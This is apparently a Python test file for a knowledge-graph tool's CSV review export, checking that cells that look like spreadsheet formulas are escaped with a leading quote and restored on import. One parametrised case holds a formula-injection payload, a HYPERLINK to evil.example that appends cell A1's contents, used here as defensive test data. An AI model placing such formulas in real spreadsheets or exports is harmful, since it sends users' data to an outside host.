"""Cells of the review folder that a spreadsheet would run as formulas: `evkg suggest
--format csv` writes them with a leading single quote, the folder's manifest.json says so,
and `evkg import` takes the quote off again, so that every quote and name comes back as
the article has it, even one that really starts with ' and =; --raw-csv writes and reads
every cell as it is."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rdflib import RDFS, Literal

from evkg.cli import cli
from evkg.errors import InputError
from evkg.export import FORMULA_STARTS, formula_safe, undo_formula_safe
from evkg.ingest.review import MANIFEST, review_tables, write_review_folder, written_formula_safe
from evkg.ingest.tabular import import_csv
from evkg.ontology import EV

from .suggest_sample import S_STAKE, sample

# Texts that start like formulas, after quotes or not, and the plain numbers that stay.
STARTS = st.sampled_from(["", "'", "''", "'''", *FORMULA_STARTS, *("'" + c for c in FORMULA_STARTS),
                          *("''" + c for c in FORMULA_STARTS), "-3.5", "'-3.5", "+12"])
TEXTS = st.builds(lambda start, rest: start + rest, STARTS, st.text())


def starts_like_a_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula start, unless the cell is a plain number."""
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell, re.ASCII)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def ownership(quote: str, owned: str = "Kestrel Motors") -> dict:
    """The sample's suggestions cut to the ownership fact, with ``quote`` and ``owned``."""
    result = sample()
    result["facts"] = [f for f in result["facts"] if f["kind"] == "ownership"]
    result["facts"][0]["quote"] = quote
    result["facts"][0]["fields"]["owned"] = owned
    return result


def imported(kb, path) -> tuple[set[str], set[str]]:
    """The quotes and the labels of the graph ``path`` imports to."""
    rdf = import_csv(kb, path, kind="ownership")
    return {str(q) for q in rdf.objects(None, EV.quote)}, {str(label) for label in rdf.objects(None, RDFS.label)}


# ------------------------------------------------------------------ the escape itself


@given(TEXTS)
def test_undo_formula_safe_gives_back_every_text(text):
    assert undo_formula_safe(formula_safe(text, reversible=True)) == text


@given(TEXTS)
def test_a_reversible_cell_never_starts_like_a_formula(text):
    safe = formula_safe(text, reversible=True)
    assert not starts_like_a_formula(safe) and (safe == text or safe == "'" + text)
    # Without `reversible` the same cells are neutralised, and only those that need it.
    if text.startswith(FORMULA_STARTS):
        assert formula_safe(text) == safe


@given(st.text())
def test_a_text_that_does_not_start_with_quote_and_formula_is_never_changed_back(text):
    if not (text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS)):
        assert undo_formula_safe(text) == text


# ------------------------------------------------------------------ the review tables


@pytest.mark.parametrize("quote, cell", [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") holds 25%.", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") holds 25%."),
    ("@SUM(A1) holds a 25% stake.", "'@SUM(A1) holds a 25% stake."),
    ("'=1+2 is what the article prints.", "''=1+2 is what the article prints."),
    ("-CATL holds a 25% stake.", "'-CATL holds a 25% stake."),
    (S_STAKE, S_STAKE),
])
def test_formula_looking_quotes_and_names_are_written_with_a_leading_quote(quote, cell):
    text = review_tables([ownership(quote, owned="=Kestrel Motors")])["ownership.csv"]
    row = rows_of(text)[0]
    assert row["quote"] == cell and row["owned"] == "'=Kestrel Motors"
    assert row["share_percent"] == "25"
    if cell != quote:
        assert '"' + cell.replace('"', '""') + '"' in text  # neutralised cells in double quotes too


@given(TEXTS, TEXTS)
def test_every_cell_of_the_review_tables_reads_back_identical(quote, name):
    result = ownership(quote, owned=name)
    for raw in (False, True):
        row = rows_of(review_tables([result], raw=raw)["ownership.csv"])[0]
        back = {key: value if raw else undo_formula_safe(value) for key, value in row.items()}
        assert (back["quote"], back["owned"]) == (quote, name)
        if not raw:
            assert not any(starts_like_a_formula(value) for value in row.values())


def test_raw_tables_keep_every_cell_as_it_is():
    row = rows_of(review_tables([ownership("=1+2 and a 25% stake.")], raw=True)["ownership.csv"])[0]
    assert row["quote"] == "=1+2 and a 25% stake."


def test_the_manifest_says_how_the_cells_were_written(tmp_path):
    write_review_folder([ownership("=1+2 and a 25% stake.")], tmp_path / "safe")
    write_review_folder([ownership("=1+2 and a 25% stake.")], tmp_path / "raw", raw=True)
    assert json.loads((tmp_path / "safe" / MANIFEST).read_text(encoding="utf-8"))["cells"] == "formula-safe"
    assert json.loads((tmp_path / "raw" / MANIFEST).read_text(encoding="utf-8"))["cells"] == "raw"
    assert written_formula_safe(tmp_path / "safe" / "ownership.csv")
    assert not written_formula_safe(tmp_path / "raw" / "ownership.csv")
    # --force over a raw folder: the manifest follows the tables.
    write_review_folder([ownership("=1+2 and a 25% stake.")], tmp_path / "raw", replace=True)
    assert written_formula_safe(tmp_path / "raw" / "ownership.csv")


def test_a_folder_of_nothing_keeps_no_manifest(tmp_path):
    folder = tmp_path / "review"
    write_review_folder([ownership(S_STAKE)], folder)
    nothing = sample()
    nothing["facts"], nothing["entities"] = [], []
    assert write_review_folder([nothing], folder, replace=True) == []
    assert list(folder.iterdir()) == []


# ------------------------------------------------------------------ back through the import


@pytest.mark.parametrize("quote", ["=1+2 is how CATL holds a 25% stake in Kestrel Motors.",
                                   "'=1+2 is how CATL holds a 25% stake in Kestrel Motors.",
                                   "''+CATL holds a 25% stake in Kestrel Motors.", S_STAKE])
def test_import_reads_the_article_s_quote_and_names_back(kb, tmp_path, quote):
    folder = tmp_path / "review"
    write_review_folder([ownership(quote, owned="@Kestrel Motors")], folder)
    quotes, labels = imported(kb, folder / "ownership.csv")
    assert quotes == {quote}
    assert "@Kestrel Motors" in labels and not any(label.startswith("'") for label in labels)


def test_an_edited_folder_still_imports(kb, tmp_path):
    """A reviewer changes a figure and saves the file with a spreadsheet that writes
    semicolons, quotes every cell and drops nothing; another spreadsheet wrote a cell
    back without its leading quote: both come back as the article has them."""
    folder = tmp_path / "review"
    quote = "=CATL holds a 25% stake in Kestrel Motors."
    write_review_folder([ownership(quote)], folder)
    path = folder / "ownership.csv"
    header, row = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    row[header.index("share_percent")] = "30"
    out = io.StringIO()
    csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows([header, row])
    path.write_text(out.getvalue(), encoding="utf-8")
    assert imported(kb, path)[0] == {quote}
    row[header.index("quote")] = quote  # the quote as a spreadsheet saves a cell it showed as text
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, row])
    path.write_text(out.getvalue(), encoding="utf-8")
    rdf = import_csv(kb, path, kind="ownership")
    assert {str(q) for q in rdf.objects(None, EV.quote)} == {quote}
    assert {str(v) for v in rdf.objects(None, EV.sharePercent)} == {"30.0"}


def test_a_raw_folder_or_one_without_manifest_is_read_as_it_is(kb, tmp_path):
    quote = "'=1+2 is how CATL holds a 25% stake in Kestrel Motors."
    write_review_folder([ownership(quote)], tmp_path / "raw", raw=True)
    assert imported(kb, tmp_path / "raw" / "ownership.csv")[0] == {quote}
    write_review_folder([ownership(quote)], tmp_path / "old")
    (tmp_path / "old" / MANIFEST).unlink()
    assert imported(kb, tmp_path / "old" / "ownership.csv")[0] == {"'" + quote}


def test_a_manifest_that_is_not_evkg_s_is_refused(kb, tmp_path):
    folder = tmp_path / "review"
    write_review_folder([ownership(S_STAKE)], folder)
    (folder / MANIFEST).write_text("{not json", encoding="utf-8")
    with pytest.raises(InputError, match=r"manifest.json: is not the manifest `evkg suggest` writes .* remove the manifest"):
        import_csv(kb, folder / "ownership.csv", kind="ownership")


def test_evkg_import_gives_the_article_s_quote(runner, tmp_path):
    folder = tmp_path / "review"
    quote = "=CATL holds a 25% stake in Kestrel Motors."
    write_review_folder([ownership(quote)], folder)
    out = runner.invoke(cli, ["import", str(folder / "ownership.csv"), "--kind", "ownership", "--dry-run"])
    assert out.exit_code == 0, out.output
    assert Literal(quote).n3() in out.stdout and Literal("'" + quote).n3() not in out.stdout
